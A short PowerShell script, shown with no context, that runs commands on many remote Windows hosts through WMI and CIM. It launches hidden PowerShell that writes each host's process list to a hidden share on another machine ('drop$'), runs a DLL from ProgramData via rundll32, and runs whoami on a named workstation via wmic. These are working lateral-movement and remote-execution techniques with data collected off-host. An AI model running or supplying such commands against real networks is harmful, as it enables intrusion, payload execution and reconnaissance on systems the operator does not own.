$targets = Get-Content -Path .\hosts.txt
$cmd = 'cmd.exe /c powershell.exe -nop -w hidden -c "Get-Process | Out-File \\10.0.5.20\drop$\p.txt"'

foreach ($t in $targets) {
    Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList $cmd -ComputerName $t | Out-Null
}

$cim = New-CimSession -ComputerName 'WS-0142'
Invoke-CimMethod -CimSession $cim -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'rundll32.exe C:\ProgramData\u.dll,Start' }
Remove-CimSession -CimSession $cim

wmic /node:"WS-0150" process call create "cmd /c whoami > C:\Windows\Temp\o.txt"
